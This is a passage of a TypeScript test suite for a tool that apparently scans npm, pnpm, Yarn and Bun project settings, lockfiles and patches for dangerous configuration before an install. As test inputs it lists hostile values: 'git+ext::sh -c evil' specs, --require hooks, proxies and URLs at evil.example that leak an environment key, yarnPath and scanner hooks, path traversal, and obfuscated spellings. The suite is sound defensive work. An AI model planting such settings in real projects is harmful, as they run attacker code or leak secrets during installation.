      expect(settingsFor('pnpm', { [manifest]: '{}', 'pnpm-workspace.yaml': list }).dangers).toEqual([]);
    },
  );

  // Other systems have no such names.
  test.runIf(process.platform === 'linux').each(['packages', 'node_modules', 'node_modules/@a', '.yarn'])(
    'has no folder and no link in %s whose name is not UTF-8',
    (folder) => {
      const top = folderWith({ ...above, [`${folder}/a/package.json`]: '{}' });
      const place = { directory: path.join(top, functions), root: top, top, env: { HOME: home } };
      const odd = Buffer.concat([Buffer.from(`${top}/${folder}/`), Buffer.from([0xff])]);
      writeFileSync(odd, '');
      expect(projectSettings('bun', place).dangers).toEqual([]);
      rmSync(odd);
      for (const make of [() => mkdirSync(odd), () => symlinkSync('/', odd)]) {
        make();
        expect(() => projectSettings('bun', place)).toThrow('has a name that is not UTF-8');
        rmSync(odd, { recursive: true });
      }
    },
  );

  test('nor one that only Bun reads, as JSON with comments', () => {
    const broken = '{ "dependencies": {} /* all */ }';
    const needing = { [manifest]: JSON.stringify({ dependencies: { b: 'file:../../../../packages/a/b' } }) };
    for (const folder of ['packages/a', 'packages/a/b']) {
      for (const one of ['npm', 'pnpm', 'yarn', 'bun'] as const)
        expect(
          settingsFor(one, { ...listing('packages/*'), ...needing, [`${folder}/package.json`]: broken })
            .dangers,
        ).toContain(`${folder}/package.json is written in a way that only the package manager can read`);
    }
  });

  test.runIf(process.platform !== 'win32')('must have no pipes', () => {
    const top = folderWith({ ...above, [manifest]: '{}', 'packages/a/package.json': '{"bin": "cli"}' });
    execFileSync('mkfifo', [path.join(top, 'packages/a/cli')]);
    const place = { directory: path.join(top, functions), root: top, top, env: { HOME: home } };
    expect(projectSettings('npm', place).dangers).toEqual(['packages/a/cli is not a file']);
  });

  test('is looked for above what came with the project, too', () => {
    const top = folderWith({
      'package.json': JSON.stringify({ workspaces: ['@(shop)/**'] }),
      [`${functions}/package.json`]: '{}',
    });
    const directory = path.join(top, functions);
    const place = { directory, root: directory, top: path.join(top, 'shop'), env: { HOME: home } };
    expect(projectSettings('npm', place).dangers).toEqual([
      expect.stringMatching(/package\.json is written in a way that only the package manager can read$/),
    ]);
  });

  test.each([
    ...['{.,a}{.,b}/victim', 'x/{.,a}{.,b}/victim', '{..,a}/victim', './x/../../victim', './x/../victim'],
    ...['/victim', '{/victim,a}', '{,a}/victim', '{,/}victim/*', '{b,{.,}}/victim', '!/victim', 'c:victim'],
    ...['{c:,a}/victim', '{a,\\\\b}/*'],
  ])('takes in no folder outside of it, however the glob leads there: %s', (glob) => {
    for (const one of ['npm', 'yarn', 'bun'] as const) {
      const manifest = JSON.stringify({ workspaces: [glob] });
      expect(settingsFor(one, { [`${functions}/package.json`]: manifest }).dangers).toHaveLength(1);
    }
    for (const list of [`\n  - "${glob}"`, `\n- '${glob}' # all`, ` ["x", "${glob}"]`, `\n  - ${glob}`]) {
      const text = `packages:${list}\n`;
      expect(settingsFor('pnpm', { [`${functions}/pnpm-workspace.yaml`]: text }).dangers).toHaveLength(1);
    }
  });

  test('may name its registry there', () => {
    for (const packageManager of ['npm', 'pnpm', 'bun'] as const) {
      const found = settingsFor(packageManager, { ...above, '.npmrc': 'registry=https://npm.example/' });
      expect(found.dangers).toEqual([]);
    }
  });
});

const rc = `${functions}/.npmrc`;
const yaml = `${functions}/pnpm-workspace.yaml`;
const manifest = `${functions}/package.json`;
const toml = `${functions}/bunfig.toml`;

describe('only settings that are known to be harmless are let through', () => {
  const files: readonly (readonly [PackageManager, string, (name: string) => string])[] = [
    ['npm', rc, (name) => `${name}=x\n`],
    ['pnpm', rc, (name) => `save-exact=true\n${name} = x\n`],
    ['pnpm', yaml, (name) => `packages:\n  - a\n${name}: x\n`],
    ['pnpm', manifest, (name) => JSON.stringify({ pnpm: { [name]: 'x' } })],
    ['yarn', '.npmrc', (name) => `${name}=x\n`],
    ['yarn', 'shop/.yarnrc', (name) => `${name} "x"\n`],
    ['yarn', 'shop/.yarnrc', (name) => `--install.${name} true\n`],
    ['yarn', '.yarnrc.yml', (name) => `nodeLinker: node-modules\n${name}: x\n`],
    ['bun', toml, (name) => `${name} = "x"\n`],
    ['bun', toml, (name) => `[install]\n${name} = "x"\n`],
    ['bun', toml, (name) => `[install.cache]\n${name} = "x"\n`],
    ['bun', toml, (name) => `[${name}]\nx = "x"\n`],
  ];
  const names = fc.stringMatching(/^[a-z]{3,9}(-[a-z]{2,9}){0,2}$/).filter((name) => !isHarmless(name));

  test.each(files)('%s: one of any other name in %s stops the install', (packageManager, file, textFor) => {
    fc.assert(
      fc.property(names, (name) => {
        const { dangers } = settingsFor(packageManager, { [file]: textFor(name) });
        expect(dangers).toHaveLength(1);
        expect(dangers[0]).toContain(name);
      }),
      { numRuns: 6 },
    );
  });

  test.each<[PackageManager, string, string]>([
    ['npm', rc, 'git=./evil'],
    ['npm', rc, 'node-options=--require ./evil'],
    ['npm', rc, 'cache=/elsewhere'],
    ['npm', rc, 'strict-ssl=false'],
    ['npm', rc, 'https-proxy=http://evil.example'],
    ['npm', rc, '//npm.example/:tokenHelper=./evil'],
    ['npm', rc, '"git"=./evil'],
    ['npm', rc, 'gi${NONE?}t=./evil'],
    ['npm', rc, 'GIT = ./evil'],
    ['pnpm', rc, 'global=true'],
    ['pnpm', yaml, 'mergeGitBranchLockfilesBranchPattern: ["*"]'],
    ['pnpm', `${functions}/.pnpmfile.cjs`, 'evil()'],
    ['pnpm', `${functions}/.pnpmfile.mjs`, 'evil()'],
    ['pnpm', yaml, '{ "pnpmfile": x.cjs }'],
    ['pnpm', yaml, 'a: &a\n  pnpmfile: x.cjs\n<<: *a'],
    ['pnpm', yaml, '  configDependencies:\n    a: 1'],
    ['pnpm', yaml, 'packages:\n  - ../../../other'],
    ['pnpm', yaml, 'packages: ["/elsewhere/*"]'],
    ['pnpm', yaml, 'packages:\n  - "\\x2e\\x2e/other"'],
    ['pnpm', manifest, '{"pnpm": {"configDependencies": {"a": "1"}}}'],
    ['pnpm', manifest, '{"devEngines": {"runtime": {"name": "node", "onFail": "download"}}}'],
    ['npm', manifest, '{"workspaces": ["../*"]}'],
    ['bun', manifest, '{"workspaces": {"packages": ["/elsewhere"]}}'],
    ['npm', manifest, '{"name": "x", // bun reads this\n}'],
    ['bun', manifest, '{"dependencies": {"x": "git+ext::sh"}, "dependencies": {}}'],
    ['npm', rc, 'registry=file:///etc/'],
    ['yarn', '.yarnrc.yml', 'enableConstraintsChecks: true'],
    ['yarn', 'shop/.yarnrc.yml', '"\\u0079arnPath": ./evil.cjs'],
    ['yarn', 'shop/.yarnrc.yml', '# yarn lockfile v1\nyarnPath "./evil.cjs"'],
    ['yarn', 'shop/.yarnrc', 'registry "https://x/" yarn-path "./evil.js"'],
    ['yarn', 'shop/.yarnrc', '"yarn\\u002dpath" "./evil.js"'],
    ['bun', toml, '[install.security]\nscanner = "./evil"'],
    ['bun', toml, 'install.security.scanner = "./evil"'],
    ['bun', toml, 'install."secur\\u0069ty".scanner = "./evil"'],
    ['bun', toml, 'install = { security = { scanner = "./evil" } }'],
    ['bun', toml, '[install]\nsecurity = { scanner = "./evil" }'],
    ['bun', toml, '[test]\nx = """\n"""\n[install.security]\nscanner = "./evil"'],
    ['bun', toml, '[[install]]\nx = 1'],
  ])('%s: %s with %s stops it', (packageManager, file, text) => {
    expect(settingsFor(packageManager, { [file]: text }).dangers.length).toBeGreaterThan(0);
  });

  test.each<[PackageManager, Readonly<Record<string, string>>]>([
    [
      'npm',
      {
        [rc]: `registry=https://npm.example/\n@a:registry=https://b.example/\n//b.example/:_authToken=abc\nsave-exact=true\nfund=false
audit=false\nengine-strict=true\nlegacy-peer-deps=true\npackage-lock=false\nloglevel=error\nprogress=false
update-notifier=false\nglobal=true\nignore-scripts=true\nstrict-ssl=true\n; a comment\n[section]\n`,
        [manifest]:
          '{"dependencies": {"a": "^1.0.0", "@b/c": "*", "d": "npm:e@1", "f": "file:./f", "g": "workspace:*", "h": ">=1 <2 || 3.x", "i": "next", "j": "https://example.com/j.tgz"}}',
      },
    ],
    ['pnpm', { [`${functions}/pnpmfile-report.js`]: '', [`${functions}/.pnpmfiles.js`]: '' }],
    ['npm', { [`${functions}/.pnpmfile.cjs`]: '', [`${functions}/.yarnrc.yml`]: 'yarnPath: x' }],
    [
      'pnpm',
      {
        [rc]: `shamefully-hoist=true\nauto-install-peers=true\nnode-linker=hoisted\nstrict-peer-dependencies=false
public-hoist-pattern[]=*eslint*\nlink-workspace-packages=true\nprefer-workspace-packages=true\n`,
        [yaml]: `# all\n---\npackages:\n- a\n- "b/*"\nonlyBuiltDependencies:\n- b\ncatalog:\n  react: ^18.0.0
overrides:\n  'a>b': ^1.0.0\npatchedDependencies:\n  x.js: patches/a.patch\nminimumReleaseAge: 1440\nallowBuilds:\n  esbuild: true\n`,
        [manifest]: '{"pnpm": {"overrides": {"a": "1"}, "patchedDependencies": {"a": "patches/a.patch"}}}',
      },
    ],
    [
      'yarn',
      {
        [`${functions}/.yarnrc.yml`]: `nodeLinker: node-modules\ninitEditorConfig: true\nenableGlobalCache: false\nnpmScopes:\n  a:
    npmRegistryServer: "https://npm.example"\npackageExtensions:\n  a@*:\n    dependencies:\n      b: ^1.0.0\n  "c@npm:^1":\n    dependencies:\n      d: "npm:e@1"\n`,
        '.yarnrc':
          '# x\nregistry "https://x/"\n--install.frozen-lockfile true\nsave-prefix ""\nlastUpdateCheck 123\n',
      },
    ],
    [
      'bun',
      {
        [toml]: `telemetry = false\nsmol = true\npreload = ["./setup.ts"]\n[install]\nregistry = "https://npm.example" # ours\nexact = true
minimumReleaseAgeExcludes = [\n  "a",\n  "b"\n]\n[install.scopes]\n"@a" = { url = "https://b.example" }
[test]\npreload = ["./setup.ts"]\n[run]\nbun = true\n[define]\n"process.env.A" = "'b'"\n`,
      },
    ],
  ])('and nothing that public projects commonly have: %s', (packageManager, all) => {
    expect(settingsFor(packageManager, all).dangers).toEqual([]);
  });
});

function isHarmless(name: string): boolean {
  const plain = name.replaceAll('-', '');
  const tables = ['test', 'run', 'serve', 'debug', 'bundle', 'define', 'loader'];
  return (
    tables.includes(name) ||
    Object.values(allowedSettings).some((names) =>
      [plain, `install.${plain}`, `install.cache.${plain}`].some((one) => names.has(one)),
    )
  );
}

test('a package.json that is too deep to be looked through stops it', () => {
  const text = `{"overrides": ${'{"a":'.repeat(9999)}1${'}'.repeat(9999)}}`;
  expect(settingsFor('npm', { [manifest]: text }).dangers).toHaveLength(1);
});

test('a file that is too large to be looked through stops it', () => {
  const top = folderWith({ [`${functions}/x.js`]: '', [rc]: '' });
  truncateSync(path.join(top, rc), 17 * 2 ** 20);
  const directory = path.join(top, functions);
  const place = { directory, root: directory, top, env: { HOME: home } };
  expect(projectSettings('npm', place).dangers).toHaveLength(1);
});

describe('YAML is judged by what it says, however that is written', () => {
  const outside = 'link:../../../../../victim';
  const spellings: readonly ((value: string) => string)[] = [
    (value) => `overrides:\n  a: &x ${value}\n`,
    (value) => `overrides:\n  a: !!str ${value}\n`,
    (value) => `overrides:\n  &k a: &x ${value}\n`,
    (value) => `overrides: {"@a/b>c":${value}}\n`,
    (value) => `overrides: {'b c':"${value}"}\n`,
    (value) => `catalog:\n  b: &x ${value}\noverrides:\n  a: *x\n`,
    (value) => `ignoredOptionalDependencies:\n  - &x ${value}\noverrides:\n  a: *x\n`,
    (value) => `ignoredOptionalDependencies: [&x ${value}]\noverrides:\n  a: *x\n`,
    (value) => `peerDependencyRules:\n  allowedVersions: &x\n    a: ${value}\noverrides: *x\n`,
    (value) => `peerDependencyRules:\n  allowedVersions: &x\n    a: ${value}\noverrides:\n  <<: *x\n`,
    (value) => `overrides:\n  a: >-\n    ${value}\n`,
    (value) => `overrides:\n  a: # that\n    ${value}\n`,
    (value) => `overrides:\n  ? a\n  : ${value}\n`,
  ];

  test.each(spellings.map((spelled) => [spelled('x'), spelled] as const))('%j', (_, spelled) => {
    for (const value of ['git+file:///victim', outside, 'file:/victim'])
      expect(settingsFor('pnpm', { [yaml]: spelled(value) }).dangers).not.toEqual([]);
  });

  test.each([
    'overrides:\n  a: link:x\n    y/../../../../../../victim\n',
    'overrides:\n  a: link:x\n   - y/../../../../../../victim\n',
    'overrides:\n  a: link:x\n    "/../../../../../../victim\n',
    'overrides:\n  a: "link:x\n    y/../../../../../../victim"\n',
    'overrides:\n  a: &x "link:x\n    y/../../../../../../victim"\n',
    'overrides: {a: link:x\n  y/../../../../../../victim}\n',
    'overrides: {\n  a: link:x\n  - y/../../../../../../victim}\n',
    'ignoredOptionalDependencies: &x [../victim]\npackages: *x\n',
    'ignoredOptionalDependencies:\n  - &x ../victim\npackages: [*x]\n',
    'packages:\n  - !!str x\n',
  ])('as texts are joined or named: %j', (text) => {
    expect(settingsFor('pnpm', { [yaml]: text }).dangers).toHaveLength(1);
  });

  const hexadecimal = (text: string) =>
    text.replace(/./g, (one) => `\\x${one.charCodeAt(0).toString(16).padStart(2, '0')}`);
  const quoted: readonly ((text: string) => string)[] = [
    (text) => `'${text}'`,
    (text) => JSON.stringify(text),
    (text) => `"${hexadecimal(text)}"`,
    (text) => `"${text.slice(0, 1)}\\\n      ${text.slice(1)}"`,
  ];
  const texts = [
    ...quoted,
    (text: string) => text,
    (text: string) => `>-\n      ${text}`,
    (text: string) => `|-\n      ${text}`,
  ];
  const signs = ['', '!!str ', '! ', '&x ', '!!str &x '];
  const blocks: readonly ((setting: string, key: string, value: string, other: string) => string)[] = [
    (setting, key, value) => `${setting}:\n  ${key}: ${value}\n`,
    (setting, key, value) => `# all\n---\n"${hexadecimal(setting)}": !!map\n    '${key}': ${value}\n...\n`,
    (setting, key, value) => `? ${setting}\n: ? &k ${key}\n  : ${value}\n`,
    (setting, key, value, other) => `${other}: &a ${value.replace('&x ', '')}\n${setting}:\n  ${key}: *a\n`,
    (setting, key, value, other) => `${other}: &a\n  ${key}: ${value}\n${setting}: *a\n`,
  ];
  const flows: typeof blocks = [
    (setting, key, value) => `${setting}: {${key}: ${value}}\n`,
    (setting, key, value) => `{\n "${setting}" : { "${key}":${value}, }\n}\n`,
  ];
  const ways = fc.oneof(
    fc.record({ text: fc.constantFrom(...texts), file: fc.constantFrom(...blocks) }),
    fc.record({ text: fc.constantFrom(...quoted), file: fc.constantFrom(...flows) }),
  );
  const harmful = [
    outside,
    'git+file:///victim',
    'file:/victim',
    'exec:./evil',
    'https://evil.example/${SHOP_KEY}',
  ];

  test.each<[PackageManager, string, string, string]>([
    ['pnpm', yaml, 'overrides', 'savePrefix'],
    ['pnpm', yaml, 'catalog', 'packageImportMethod'],
    ['yarn', '.yarnrc.yml', 'packageExtensions', 'initScope'],
    ['yarn', '.yarnrc.yml', 'npmRegistries', 'initScope'],
    ['pnpm', `${functions}/pnpm-lock.yaml`, 'packages', 'a'],
    ['pnpm', `${functions}/node_modules/.modules.yaml`, 'hoistedDependencies', 'a'],
  ])('%s: %s with %s', (packageManager, file, setting, other) => {
    const dangersOf = (text: string) =>
      new Set(settingsFor(packageManager, { [file]: text }, { SHOP_KEY: 'canary' }).dangers);
    const harmless = fc.stringMatching(/^[a-z][a-z0-9./-]{0,12}[a-z0-9]$/);
    fc.assert(
      fc.property(
        fc.oneof(fc.constantFrom(...harmful), harmless),
        fc.stringMatching(/^[a-z][a-z0-9]{0,5}$/),
        fc.constantFrom(...signs),
        ways,
        (text, key, sign, way) => {
          const spelled = way.file(setting, key, `${sign}${way.text(text)}`, other);
          const plain = `${other}: "${text}"\n${setting}:\n  ${key}: "${text}"\n`;
          const isRepeated = spelled.includes(other);
          const expected = isRepeated ? dangersOf(plain) : dangersOf(plain.replace(/.*\n/, ''));
          expect(dangersOf(spelled), spelled).toEqual(expected);
        },
      ),
      { numRuns: 60 },
    );
  });

  const repeated = Array.from(
    { length: 40 },
    (_, depth) => `a${depth + 1}: &a${depth + 1} [*a${depth}, *a${depth}]\n`,
  );
  const nested = Array.from({ length: 9999 }, (_, depth) => `a${depth + 1}: &a${depth + 1} [*a${depth}]\n`);

  test.each<[string, string]>([
    ['merged mappings', 'x: &x\n  a: b\noverrides:\n  <<: *x\n'],
    ['a key twice', 'overrides:\n  a: "1"\n  a: "2"\n'],
    ['a tag', 'overrides:\n  a: !!binary bGluazovdmljdGlt\n'],
    ['a tag of its own', '%TAG ! tag:yaml.org,2002:\n---\noverrides:\n  a: !binary bGluazovdmljdGlt\n'],
    ['a null byte', 'overrides:\n  a: "1"\n\0'],
    ['aliases that repeat without end', `a0: &a0 [x]\n${repeated.join('')}`],
    ['aliases that are too deep', `a0: &a0 [x]\n${nested.join('')}`],
    ['an alias of what it is in', 'overrides: &x\n  a: *x\n'],
    ['too many levels', `overrides: ${'['.repeat(9999)}${']'.repeat(9999)}\n`],
    ['no YAML', 'overrides:\n\ta: sk_live_1234\n b'],
  ])('what only the package manager can read for certain stops the install: %s', (_, text) => {
    for (const file of [yaml, `${functions}/pnpm-lock.yaml`, `${functions}/node_modules/.modules.yaml`])
      expect(settingsFor('pnpm', { [file]: text }).dangers).toEqual([
        `${file} is written in a way that only the package manager can read`,
      ]);
  });

  test('a key has no effect on the program itself', () => {
    const text = `__proto__:\n  a: ${outside}\noverrides:\n  __proto__: ${outside}\n`;
    expect(settingsFor('pnpm', { [yaml]: text }).dangers).toHaveLength(2);
    expect(settingsFor('pnpm', { [`${functions}/pnpm-lock.yaml`]: text }).dangers).toHaveLength(1);
    expect(Object({}).a).toBeUndefined();
  });

  test('a lockfile may have several documents, of which each is looked at; settings may not', () => {
    const lock = (version: string) =>
      `---\nsettings: {}\n---\nimporters:\n  .:\n    dependencies:\n      a:\n        version: ${version}\n`;
    const file = `${functions}/pnpm-lock.yaml`;
    expect(settingsFor('pnpm', { [file]: lock('1.0.0') }).dangers).toEqual([]);
    expect(settingsFor('pnpm', { [file]: lock(outside) }).dangers).toHaveLength(1);
    expect(
      settingsFor('pnpm', { [yaml]: '---\nsaveExact: true\n---\nsaveExact: true\n' }).dangers,
    ).toHaveLength(1);
  });

  test('a lockfile of Yarn 4 is looked at as YAML, too', () => {
    const file = `${functions}/yarn.lock`;
    const lock = (resolution: string) =>
      `__metadata:\n  version: 8\n\n"a@npm:^1":\n  resolution: ${resolution}\n`;
    expect(settingsFor('yarn', { [file]: lock('"a@npm:1.0.0"') }).dangers).toEqual([]);
    for (const one of ['a@git@x.example:a#com\\\n    mit=1', 'a@../\\\n    ../../victim/\\\n    ../../x'])
      expect(settingsFor('yarn', { [file]: lock(`"${one}"`) }).dangers).toHaveLength(1);
  });

  test('but nothing is wrong with one as it is usually written', () => {
    const text = [
      '# all',
      'packages:\n  # ours\n  - src/*.functions # here\n\n  - "packages/*"\n  - \'{apps,libs}/*\'\n  - "!**/test/**"',
      'catalog:\n  react: &react ^18.0.0\n  react-dom: *react\n  "@a/b": \'npm:@c/d@1\'\n  e: ">=1 <2"\n  f: \'\'',
      "catalogs: { old: { a: 1, '@b/c': ^2 } }",
      'overrides:\n  a@>=1 <2: ">=1.0.1"\n  "b>c": $d\n  e: "-"\n  f: npm:g@1\n\n  h: workspace:*',
      'packageExtensions:\n  "a@*":\n    peerDependencies:\n      b: "*"\n    peerDependenciesMeta: {b: {optional: true}}',
      'publicHoistPattern:\n  - "*types*"\n  - \'!x\'\nonlyBuiltDependencies: [a, "@b/c"]\n',
    ].join('\n');
    expect(settingsFor('pnpm', { [yaml]: text }).dangers).toEqual([]);
    const lists = 'packages: [\n  "a/*",\n  \'b/*\',\n  ]\n';
    expect(settingsFor('pnpm', { [yaml]: lists }).dangers).toEqual([]);
  });
});

describe('a patch', () => {
  const patch = (file: string) =>
    `diff --git a/${file} b/${file}\n--- a/${file}\n+++ b/${file}\n@@ -1 +1 @@\n-..\n+../\n`;
  const patched = { 'a@1.0.0': 'patches/a.patch' };

  test.each<[PackageManager, string, string]>([
    ['pnpm', manifest, JSON.stringify({ pnpm: { patchedDependencies: patched } })],
    ['pnpm', yaml, 'patchedDependencies:\n  a@1.0.0: patches/a.patch\n'],
    ['bun', manifest, JSON.stringify({ patchedDependencies: patched })],
  ])('of %s in %s stops the install only if it changes files outside of its package', (one, file, text) => {
    const name = `${functions}/patches/a.patch`;
    expect(settingsFor(one, { [file]: text, [name]: patch('lib/a..js') }).dangers).toEqual([]);
    for (const outside of ['lib/../../../x', '/victim/x', 'C:/victim/x'])
      expect(settingsFor(one, { [file]: text, [name]: patch(outside) }).dangers).toEqual([
        `${name} changes files outside of its package`,
      ]);
  });

  test.each([
    'rename from /victim/x\nrename to y\n',
    'rename from y\nrename to /victim/x\n',
    '--- /victim/x\n+++ b/x\n',
    '--- /dev/null\n+++ /victim/x\n',
    '--- a/x\n+++ b//victim/x\n',
    'diff --git a/x b//victim/x\nnew file mode 100644\n',
  ])('is looked through in each of its lines: %j', (text) => {
    const files = {
      [manifest]: JSON.stringify({ patchedDependencies: patched }),
      [`${functions}/patches/a.patch`]: text,
    };
    expect(settingsFor('bun', files).dangers).toHaveLength(1);
  });

  test('that is new, or gone, or moved within its package does not', () => {
    const text =
      'diff --git a/lib/x b/lib/y\nsimilarity index 90%\nrename from lib/x\nrename to lib/y\n--- /dev/null\n+++ b/y\n@@ -1 +1 @@\n--- see a/b\n+c\n--- a/x\n+++ /dev/null\n';
    const files = {
      [manifest]: JSON.stringify({ patchedDependencies: patched }),
      [`${functions}/patches/a.patch`]: text,
    };
    expect(settingsFor('bun', files).dangers).toEqual([]);
  });

  test.each(["it's.patch", 'a b.patch', 'a,b.patch', 'a{b}.patch'])(
    'of pnpm whose name cannot be read for certain stops the install: %s',
    (name) => {
      const files = { [yaml]: `patchedDependencies:\n  a@1.0.0: patches/${name}\n` };
      const { dangers } = settingsFor('pnpm', {
        ...files,
        [`${functions}/patches/${name}`]: patch('/victim/x'),
      });
      expect(dangers).toHaveLength(1);
    },
  );
});

describe('a package that git would fetch stops the install', () => {
  const specs = [
    'git+ssh://git@example.com/x.git',
    'git+ext::sh -c evil',
    ' git://example.com/x',
    'ssh://git@example.com/x',
    'github:ada/x',
    'ada/x#semver:^1',
    'https://github.com/ada/x',
    'https://github.com/ada/x/',
    'https://github.com/ada/x/tree/a',
    'https://github.com/ada/x/tarball/a',
    'https://WWW.GitHub.com:443/ada/x#a/b',
    'https://github%2ecom/ada/x',
    'https://gist.github.com/ada/0123',
    'https://gitlab.com/a/archive/x',
    'https://bitbucket.org/ada/x/archive/a',
    'ht\ttps://github.com/ada/x',
    '\u00e4da/x',
    'https://example.com/x.git#main',
    'https://example.com/a b.git',
    'exec:./evil.js',
    'evil@example.com:x',
    'other://example.com/x',
  ];
  /** What a package manager might take for a different folder or kind of package than it seems to be. */
  const unclear = ['#./b', '?b', '#', '::locator=a%40workspace%3A.'].flatMap((end) =>
    ['file:./lib', 'link:lib', 'portal:./lib', 'workspace:./lib', './lib'].map((start) => start + end),
  );
  const kinds = [
    'exec:./x',
    'portal:./x',
    'link:/x',
    'file:/x',
    'git@x.example:a',
    'a/b',
    'https://x.example/x.tgz',
  ];
  const patchOf = (kind: string): string => `patch:x@${encodeURIComponent(kind)}#./x.patch`;
  const within = kinds.flatMap((kind) => [
    `npm:x@${kind}`,
    `npm:@b/x@${kind}::locator=a%40workspace%3A.`,
    `patch:x@${kind}#./x.patch`,
    patchOf(kind),
    patchOf(patchOf(kind)),
  ]);

  test.each(['dependencies', 'resolutions'])(
    'nor what is in another one, or reads in two ways, in %s',
    (list) => {
      for (const spec of [...unclear, ...within, 'patch:x@npm%3A1#./x.patch&./y.patch']) {
        const { dangers } = settingsFor('yarn', { [manifest]: JSON.stringify({ [list]: { x: spec } }) });
        expect(dangers.join(), spec).toContain('package.json has x');
      }
    },
  );

  test('but what Yarn makes of a package of a registry with patches', () => {
    const ranges = ['npm:1.0.0', 'npm:^1.0.0 || ^2', 'npm:@b/y@1', 'workspace:*', '^1.0.0'];
    for (const spec of [...ranges.map(patchOf), patchOf(patchOf('npm:1.0.0'))]) {
      const files = { [manifest]: JSON.stringify({ resolutions: { x: spec } }) };
      expect(settingsFor('yarn', files).dangers, spec).toEqual([]);
    }
  });

  test('nor in a lockfile of Yarn', () => {
    const dangersOf = (range: string) => {
      const lock = `__metadata:\n  version: 8\n\n"x@npm:1":\n  resolution: "x@${range}"\n`;
      return settingsFor('yarn', { [manifest]: '{}', [`${functions}/yarn.lock`]: lock }).dangers;
    };
    const bound = 'hash=a1&locator=a%40workspace%3A.';
    for (const one of ['./lib', 'lib', './x.tgz'])
      expect(dangersOf(`file:${one}#${one}::${bound}`), one).toEqual([]);
    expect(dangersOf(`${patchOf('npm:1.0.0')}::version=1.0.0&${bound}`)).toEqual([]);
    const odd = [
      `file:./lib#./b::${bound}`,
      `file:./lib?#./lib?::${bound}`,
      `file:./a b#../../../../victim::${bound}`,
      `file:./lib#./lib::${bound}&locator=b%40workspace%3A.`,
      `link:/victim::locator=x%40npm%3A1.0.0`,
      [...Array(12)].reduce(patchOf, 'npm:1.0.0'),
      ...[...kinds.slice(0, 4), 'git@x.example:a'].flatMap((kind) => [patchOf(kind), patchOf(patchOf(kind))]),
    ];
    for (const one of odd) expect(dangersOf(one), one).not.toEqual([]);
  });

  const places: readonly (readonly [string, (spec: string) => object])[] = [
    ['dependencies', (x) => ({ dependencies: { x } })],
    ['optionalDependencies', (x) => ({ optionalDependencies: { x } })],
    ['overrides', (x) => ({ overrides: { a: { '.': '1.0.0', x } } })],
    ['resolutions', (x) => ({ resolutions: { x } })],
    ['pnpm.overrides', (x) => ({ pnpm: { overrides: { x } } })],
    ['a catalog', (x) => ({ workspaces: { packages: [], catalog: { x } } })],
  ];

  test.each(places)('in %s', (_, manifestWith) => {
    for (const spec of specs) {
      const text = `\uFEFF${JSON.stringify(manifestWith(spec))}`;
      expect(settingsFor('npm', { [manifest]: text }).dangers, spec).toHaveLength(1);
    }
  });

  test.each(['package-lock.json', 'yarn.lock', 'bun.lock', 'pnpm-lock.yaml'])('in %s', (name) => {
    const file = `${functions}/${name}`;
    for (const text of [
      '{"x": "git+ssh://git@example.com/x.git#1"}',
      '{"resolved": "git+ext::sh -c evil#1"}',
    ]) {
      expect(settingsFor('npm', { [file]: text }).dangers, text).toHaveLength(1);
    }
    expect(
      settingsFor('npm', { [file]: '{"resolved": "https://npm.example/x/-/x-1.0.0.tgz"}' }).dangers,
    ).toEqual([]);
  });

  test.each([
    'https://codeload.github.com/ada/x/tar.gz/a',
    'https://github.com/ada/x/archive/refs/tags/v1.tar.gz',
    'https://github.com/ada/x/releases/download/v1/x.tgz',
    'https://gitlab.com/a/b/x/-/archive/v1/x-v1.tar.gz',
    'https://gitlab.com/api/v4/projects/1/packages/npm/@a/x/-/@a/x-1.0.0.tgz',
    'https://bitbucket.org/ada/x/get/a.tar.gz',
    'https://npm.pkg.github.com/download/@ada/x/1.0.0/a',
  ])('but not the archive %s', (x) => {
    const files = {
      [manifest]: JSON.stringify({ dependencies: { x } }),
      [`${functions}/package-lock.json`]: JSON.stringify({ packages: { 'node_modules/x': { resolved: x } } }),
      [`${functions}/yarn.lock`]: `x@^1.0.0:\n  version "1.0.0"\n  resolved "${x}#abc"\n`,
    };
    for (const one of ['npm', 'yarn'] as const) expect(settingsFor(one, files).dangers).toEqual([]);
  });

  test('nor one that the project has', () => {
    const files = {
      [manifest]: JSON.stringify({ dependencies: { x: 'file:./x-1.0.0.tgz', y: 'file:../y.tgz' } }),
      [`${functions}/x-1.0.0.tgz`]: '',
      [`${functions}/../y.tgz`]: '',
    };
    for (const one of ['npm', 'pnpm', 'yarn', 'bun'] as const)
      expect(settingsFor(one, files).dangers).toEqual([]);
  });

  test.each([
    { packages: { 'node_modules/a': { dependencies: { q: 'ada/q' } } } },
    { dependencies: { a: { version: '1.0.0', requires: { q: 'ada/q' } } } },
    { dependencies: { a: { version: 'github:ada/a#1' } } },
    ...['node', 'name', 'os', 'license', 'workspaces', 'dependencies'].flatMap((name) => [
      { packages: { 'node_modules/a': { optionalDependencies: { [name]: 'ada/q' } } } },
      { dependencies: { a: { version: '1.0.0', requires: { [name]: 'ada/q' } } } },
      { dependencies: { [name]: { version: 'github:ada/a#1' } } },
    ]),
  ])('in a package-lock.json: %j', (lock) => {
    const file = `${functions}/package-lock.json`;
    expect(settingsFor('npm', { [file]: JSON.stringify(lock) }).dangers).toHaveLength(1);
  });

  test.each(['ada/q', 'git+ssh://x@127.0.0.1/a.git', 'file:../../../../../../../../../../../../victim'])(
    'in a package that the project brings: %s',
    (q) => {
      for (const one of installedFolders) {
        const file = `${functions}/node_modules/${one}/package.json`;
        const files = { [file]: JSON.stringify({ dependencies: { q } }) };
        expect(settingsFor('npm', files).dangers, one).toHaveLength(1);
      }
    },
  );

  test.each<[PackageManager, string, string]>([
    ['pnpm', yaml, 'overrides:\n  a: git+ssh://git@example.com/x.git'],
    ['pnpm', yaml, "overrides:\n  'a>b': 'github:ada/x'"],
    ['pnpm', yaml, 'catalog: {x: "ada/x"}'],
    ['yarn', '.yarnrc.yml', 'packageExtensions:\n  a@*:\n    dependencies:\n      x: "exec:./evil.js"'],
  ])('%s: in %s', (packageManager, file, text) => {
    expect(settingsFor(packageManager, { [file]: text }).dangers).toHaveLength(1);
  });

  test('in a package of the workspace', () => {
    const files = {
      [manifest]: '{"workspaces": ["packages/*"]}',
      [`${functions}/packages/a/package.json`]: '{"dependencies": {"x": "ada/x"}}',
    };
    expect(settingsFor('npm', files).dangers).toHaveLength(1);
  });
});

describe.skipIf(process.platform === 'win32')('an install that would write elsewhere or wait forever', () => {
  const modules = `${functions}/node_modules`;

  function withLink(place: string, target: (top: string) => string) {
    const names = [
      'inside/x',
      '.git/x',
      'node_modules/@types/x',
      'node_modules/ms/x',
      'other/package-lock.json',
      'other/.yarn/x',
    ];
